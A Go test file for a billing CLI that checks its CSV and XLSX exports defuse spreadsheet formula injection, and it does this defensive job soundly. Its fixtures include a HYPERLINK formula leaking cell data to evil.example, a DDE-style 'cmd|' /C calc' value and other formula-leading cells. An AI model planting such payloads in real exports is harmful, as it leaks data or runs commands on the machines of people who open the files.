package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/spf13/cobra"
	"github.com/xuri/excelize/v2"

	"github.com/tollbook/tollbook/cmd/tollbook/cli"
	"github.com/tollbook/tollbook/cmd/tollbook/commands"
	"github.com/tollbook/tollbook/pipeline/out/export"
	"github.com/tollbook/tollbook/pipeline/read/query"
)

// hostileWorkspace returns a workspace with ids and names that a spreadsheet would take for numbers, dates or formulas.
func hostileWorkspace(t *testing.T) string {
	t.Helper()
	const link = `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`
	dir := workspaceOf(t, map[string]string{
		"tollbook.yaml": "zone: Asia/Shanghai\ncurrency: {code: CNY, digits: 2}\n" +
			"rounding: {grain: cycle, mode: half_up}\npayments: ledger\n",
		"books/products.csv":  "sku,name,service_type_code,measure,pricing_model\n1E5,+SUM(1),2026-09,GB,flat\n",
		"books/prices.csv":    "sku,region_code,valid_from,tier,unit_price\n1E5,*,2026-01-01,1,0.335\n",
		"books/customers.csv": "customer_id,name\n1234567890123456," + link + "\n=1+1,plain\n00123,@SUM(A1)\n",
		"books/partners.csv":  "partner_id,name,kind\n00007,-2+3,reseller\n",
		"books/associations.csv": "customer_id,partner_id,association_type,valid_from\n" +
			"1234567890123456,00007,2,2026-01-01\n",
		"books/terms.csv": "seller_id,buyer_id,basis,rate,valid_from\nvendor,00007,official,0.7,2026-01-01\n",
		"inbox/usage/usage.csv": "record_id,customer_id,resource_id,resource_name,sku,region_code,usage_start," +
			"usage_end,quantity\n" +
			"9007199254740993,1234567890123456,-5,\"x;=cmd|' /C " +
			"calc'!A0;\",1E5,03,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,4\n" +
			"2026-09-05,=1+1,@r,＝1+1,1E5,MARCH1,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00," +
			"1234567.1234567891\n" +
			"0001,00123,+7,TRUE,1E5,#N/A,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,1\n" +
			"x1,00123,+7," + link + ",nope,east,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,1\n",
		"inbox/adjustments/a.csv": "adjustment_id,customer_id,sku,time,amount,bill_detail_type,note\n" +
			"-9,00123,1E5,2026-09-06T10:00:00+08:00,-3.5,9,=1+2\n",
	})
	if code, _, told := runs(dir, "run", "monthly", "--cycle", "2026-09", "--as-of",
		"2026-10-05T04:00:00Z"); code > cli.ExitNeedsAttention {
		t.Fatal(told)
	}
	return dir
}

// csvLines returns command lines of every command that writes CSV.
func csvLines() map[string][][]string {
	tables := [][]string{strings.Fields("export --cycle 2026-09 --format focus --issuer vendor"),
		strings.Fields("export --cycle 2026-09 --split")}
	for _, table := range export.Tables() {
		tables = append(tables, []string{"export", "--cycle", "2026-09", "--table", table})
	}
	var questions [][]string
	for _, name := range query.QuestionNames() {
		questions = append(questions, []string{"query", name, "--format", "csv"})
	}
	return map[string][][]string{
		"tollbook export": tables,
		"tollbook query":  questions,
		"tollbook bill": {strings.Fields("bill --cycle 2026-09 --customer 1234567890123456 --format csv"),
			strings.Fields("bill --cycle 2026-09 --customer 00123 --format csv")},
		"tollbook statement": {strings.Fields("statement --cycle 2026-09 --format csv"),
			strings.Fields("statement --cycle 2026-09 --partner 00007 --format csv")},
	}
}

// TestExcelFlags checks that every command whose --format has csv also has --excel and is tested below, except
// generate: its CSV is a feed, which tollbook reads.
func TestExcelFlags(t *testing.T) {
	t.Parallel()
	known := csvLines()
	walk(commands.New(testApp()), func(cmd *cobra.Command) {
		format := cmd.Flags().Lookup("format")
		if format == nil || !strings.Contains(format.Usage, "csv") || cmd.Name() == "generate" {
			return
		}
		if cmd.Flags().Lookup("excel") == nil || len(known[cmd.CommandPath()]) == 0 {
			t.Errorf("%s writes CSV: want --excel, and a test of it", cmd.CommandPath())
		}
		delete(known, cmd.CommandPath())
	})
	for name := range known {
		t.Errorf("%s: there is no such command that writes CSV", name)
	}
	for _, args := range []string{"export --cycle 2026-09 --excel --format ndjson",
		"export --cycle 2026-09 --excel --format focus-parquet --issuer vendor",
		"query revenue --excel", "bill --cycle 2026-09 --customer a --excel",
		"statement --cycle 2026-09 --excel --format json"} {
		if code, _, told := runs(t.TempDir(), strings.Fields(args)...); code != cli.ExitWrong ||
			!strings.Contains(told, "--excel") {
			t.Errorf("%s: exit %d, %s", args, code, told)
		}
	}
}

var (
	decimal = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	instant = regexp.MustCompile(`^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]+Z$`)
	literal = regexp.MustCompile(`^="((?:[^"]|"")*)"$`)
)

// seen returns how a spreadsheet interprets a cell of CSV: the text, and whether it is a number. Any other
// interpretation fails the test.
func seen(t *testing.T, where, cell string) (text string, number bool) {
	t.Helper()
	if m := literal.FindStringSubmatch(cell); m != nil {
		return strings.ReplaceAll(m[1], `""`, `"`), false
	}
	if escaped, ok := strings.CutPrefix(cell, "'"); ok {
		return escaped, false
	}
	switch {
	case cell == "" || cell == "+" || cell == "-" || instant.MatchString(cell):
		return cell, false
	case decimal.MatchString(cell):
		if digits := strings.Trim(strings.NewReplacer("-", "", ".", "").Replace(cell), "0"); len(digits) > 15 {
			t.Errorf("%s: %s loses digits", where, cell)
		}
		return cell, true
	case strings.ContainsAny(cell[:1], "=+-@\t\r\n#"), strings.HasPrefix(cell, "＝"), strings.EqualFold(cell, "true"):
		t.Errorf("%s: %q begins a formula, or is an error or a truth value", where, cell)
	case strings.ContainsFunc(cell, unicode.IsDigit) && len(cell) <= 255 && !strings.Contains(cell, "\n"):
		t.Errorf("%s: %q might be read as a number or a date", where, cell)
	}
	for _, part := range strings.Split(cell, ";")[1:] {
		if part = strings.TrimLeft(part, ` "`); part != "" && strings.ContainsAny(part[:1], "=+-@") {
			t.Errorf("%s: %q begins a formula where cells are separated by semicolons", where, cell)
		}
	}
	return cell, false
}

// TestExcelCSV checks that with --excel every cell of every command's CSV has the value of the plain form: texts remain
// texts, numbers remain numbers. Invariant: EXPORT-5.
func TestExcelCSV(t *testing.T) {
	t.Parallel()
	dir := hostileWorkspace(t)
	for _, list := range csvLines() {
		for _, args := range list {
			where := strings.Join(args, " ")
			plain, excel := parts(t, succeeds(t, dir, args...)), parts(t, succeeds(t, dir, append(args, "--excel")...))
			if len(plain) != len(excel) || len(excel) == 0 {
				t.Fatalf("%s: %d and %d parts", where, len(plain), len(excel))
			}
			for i := range excel {
				table, ok := strings.CutPrefix(excel[i], "\ufeff")
				if !ok || strings.HasPrefix(plain[i], "\ufeff") {
					t.Errorf("%s: want a byte order mark with --excel and none without", where)
				}
				sameTable(t, where, plain[i], table)
			}
		}
	}
}

// parts returns the CSV files of an output: all files of a tar.gz, otherwise the output itself.
func parts(t *testing.T, out string) []string {
	t.Helper()
	if !strings.HasPrefix(out, "\x1f\x8b") {
		return []string{out}
	}
	unpacked, err := gzip.NewReader(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	for files := tar.NewReader(unpacked); ; {
		if _, err := files.Next(); err == io.EOF {
			return list
		} else if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(files)
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, string(b))
	}
}

// sameTable compares, cell by cell, what a spreadsheet shows of the Excel form with the plain form.
func sameTable(t *testing.T, where, plain, excel string) {
	t.Helper()
	want, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	have, err := csv.NewReader(strings.NewReader(excel)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(want) != len(have) {
		t.Fatalf("%s: %d rows, %d with --excel", where, len(want), len(have))
	}
	isNumber :=
		regexp.MustCompile(
			`(_amount|^balance_after|_count|_usage|quantity|^amount|_price|Cost|Price|Quantity|charging_mode|bill_detail_type|tier|^row|tax|^association_type|drawn|opening|^left|rank|limit|value)$`)
	for r := range have {
		for c := range have[r] {
			name := want[0][c]
			text, number := seen(t, where+", "+name, have[r][c])
			if original := strings.TrimPrefix(want[r][c], "'"); strings.ReplaceAll(text, ";'", ";") != original {
				t.Errorf("%s, %s: %q became %q", where, name, want[r][c], have[r][c])
			}
			if number && !isNumber.MatchString(name) {
				t.Errorf("%s: %s is a number in column %s", where, have[r][c], name)
			}
			if !number && r > 0 && strings.HasSuffix(name, "_amount") && name != "usage_amount" && text != "" &&
				len(strings.Trim(strings.NewReplacer("-", "", ".", "").Replace(text), "0")) <= 15 {
				t.Errorf("%s: %s %q is no number", where, name, have[r][c])
			}
		}
	}
}

// TestExcelCells checks the most important cells, with values written by hand.
func TestExcelCells(t *testing.T) {
	t.Parallel()
	dir := hostileWorkspace(t)
	lines := succeeds(t, dir, "export", "--cycle", "2026-09", "--excel")
	for _, want := range []string{`,"=""1234567890123456""",`, `,"=""9007199254740993""",`, `,'=1+1,`,
		`,"=""2026-09-05""",`, `,"=""00123""",`, `,"=""0001""",`,
		`,"=""x;'=cmd|' /C calc'!A0;""",`, `,'＝1+1,`, `,"=""TRUE""",`, `,"=""#N/A""",`, ",-3.50000000,"} {
		if !strings.Contains(lines, want) {
			t.Errorf("lines have no %s:\n%s", want, lines)
		}
	}
	rejects := succeeds(t, dir, "export", "--table", "rejects", "--excel")
	if !strings.Contains(rejects, "nope") {
		t.Errorf("rejects:\n%s", rejects)
	}
}

// TestXLSXCells checks that ids are text cells in every XLSX file, and that only totals are formulas.
func TestXLSXCells(t *testing.T) {
	t.Parallel()
	dir := hostileWorkspace(t)
	outputs := [][]string{strings.Fields("bill --cycle 2026-09 --customer 1234567890123456"),
		strings.Fields("bill --cycle 2026-09 --customer 00123"),
		strings.Fields("statement --cycle 2026-09 --partner 00007")}
	for _, table := range export.Tables() {
		outputs = append(outputs, []string{"export", "--cycle", "2026-09", "--table", table})
	}
	ids := []string{"1234567890123456", "=1+1", "00123", "9007199254740993", "2026-09-05", "0001", "1E5", "-5", "@r",
		"+7", "00007", "-9", "2026-09", "=1+2", "+SUM(1)"}
	found := map[string]bool{}
	for _, args := range outputs {
		where := strings.Join(args, " ")
		f, err := excelize.OpenReader(bytes.NewReader([]byte(succeeds(t, dir, append(args, "--format", "xlsx")...))))
		if err != nil {
			t.Fatal(err)
		}
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			for r := range rows {
				for c, value := range rows[r] {
					checkCell(t, f, where, sheet, c+1, r+1, value, ids, found)
				}
			}
		}
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	}
	for _, id := range ids {
		if !found[id] {
			t.Errorf("no sheet has %q: the test tests nothing", id)
		}
	}
}

func checkCell(t *testing.T, f *excelize.File, where, sheet string, col, row int, value string, ids []string,
	found map[string]bool) {
	t.Helper()
	at, err := excelize.CoordinatesToCellName(col, row)
	if err != nil {
		t.Fatal(err)
	}
	formula, err := f.GetCellFormula(sheet, at)
	if err != nil {
		t.Fatal(err)
	}
	if formula != "" && !regexp.MustCompile(`^(SUM|SUBTOTAL)\([A-Z0-9,:]+\)$`).MatchString(formula) {
		t.Errorf("%s, %s!%s: formula %q", where, sheet, at, formula)
	}
	if !slices.Contains(ids, value) {
		return
	}
	found[value] = true
	kind, err := f.GetCellType(sheet, at)
	if err != nil {
		t.Fatal(err)
	}
	if kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
		t.Errorf("%s, %s!%s: %q is of type %v", where, sheet, at, value, kind)
	}
}
